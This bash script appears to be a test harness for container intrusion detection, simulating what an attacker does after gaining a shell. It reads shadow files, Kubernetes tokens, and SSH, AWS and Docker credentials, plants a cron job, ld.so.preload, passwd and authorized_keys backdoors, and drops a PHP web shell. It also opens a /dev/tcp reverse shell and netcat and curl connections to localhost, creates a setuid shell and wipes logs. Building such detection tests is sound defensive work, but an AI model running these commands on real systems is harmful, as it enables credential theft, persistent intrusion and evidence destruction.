#!/bin/bash
# What somebody does who got a shell in a container: `attacks.sh NAME`, `attacks.sh list`. Run in a throw-away root alone; see record.py.
set -u
attack_shadow() { cat /etc/shadow; }
attack_token() { cat /var/run/secrets/kubernetes.io/serviceaccount/token; }
attack_environ() { cat /proc/1/environ; }
attack_ssh_key() { cat /root/.ssh/id_ed25519; }
attack_cloud_key() { cat /root/.aws/credentials; }
attack_docker_login() { cat /root/.docker/config.json; }
attack_cron() { echo '* * * * * root /tmp/x' >/etc/cron.d/zz; }
attack_preload() { echo /tmp/x.so >/etc/ld.so.preload; }
attack_authorized_key() { mkdir -p /root/.ssh; echo key >>/root/.ssh/authorized_keys; }
attack_passwd() { echo 'evil::0:0::/:/bin/sh' >>/etc/passwd; }
attack_profile() { echo /tmp/x >>/root/.bashrc; }
attack_library() { echo x >/usr/lib/x86_64-linux-gnu/libevil.so.1; }
attack_binary() { cp /bin/true /usr/bin/evil && /usr/bin/evil; }
attack_dropper() { cp /bin/true /tmp/.x && chmod 755 /tmp/.x && /tmp/.x; }
attack_shm() { cp /bin/true /dev/shm/.x && /dev/shm/.x; }
attack_drop_in_data() { cp /bin/true "$DATA/.x" && "$DATA/.x"; }
attack_web_shell() { echo '<?php system($_GET[0]);' >/var/www/html/shell.php; }
attack_reverse_shell() { bash -c 'exec 3<>/dev/tcp/127.0.0.1/4444'; bash -i <&- ; }
attack_download() { curl -s -o /tmp/payload http://127.0.0.1:4445/; wget -q http://127.0.0.1:4445/; }
attack_netcat() { nc -w 1 127.0.0.1 4444; }
attack_recon() { id; whoami; uname -a; hostname; ps aux; cat /etc/os-release; }
attack_scan() { ip addr; cat /proc/net/tcp; ss -tn; }
attack_package() { apt-get --version; dpkg -l bash; }
attack_miner() { cp /bin/sleep /var/tmp/kworker && /var/tmp/kworker 0.01; nproc; cat /proc/cpuinfo; }
attack_setuid() { cp /bin/bash /var/tmp/b && chmod 4755 /var/tmp/b; find / -maxdepth 2 -perm -4000; }
attack_interpreter() { python3 -c 'import os; os.system("id")'; perl -e 'exec "id"'; }
attack_history() { cat /root/.bash_history; rm -f /root/.bash_history; }
attack_log_wipe() { : >/var/log/wtmp; rm -f /var/log/dpkg.log; }
attack_compile() { echo 'int main(){}' >/tmp/e.c; cc -o /tmp/e /tmp/e.c && /tmp/e; }
attack_namespaces() { unshare -U true; nsenter -t 1 -m true; mount; }
attack_kernel() { cat /proc/kallsyms; cat /sys/kernel/security/lsm; dmesg; }
attack_archive() { tar czf /tmp/loot.tgz /etc; base64 /tmp/loot.tgz; }
if [ "$1" = list ]; then declare -F | sed -n 's/^declare -f attack_//p'; exit 0; fi
"attack_$1" >/dev/null 2>&1 </dev/null
